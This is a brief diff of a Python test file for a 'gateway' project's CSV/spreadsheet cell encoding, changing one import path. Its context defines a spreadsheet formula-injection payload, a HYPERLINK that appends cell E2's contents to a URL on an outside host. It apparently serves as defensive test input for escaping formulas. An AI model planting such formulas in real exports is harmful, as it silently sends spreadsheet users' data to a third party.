@@ -12,7 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from gateway.cli import main
-from gateway.store.csv_rows import as_cell, from_cell
+from gateway.store.spreadsheet import as_cell, from_cell
 from tests.conftest import site_toml, write_csv
 
 FORMULA = '=HYPERLINK("http://x.cn/?"&E2,"详情")'
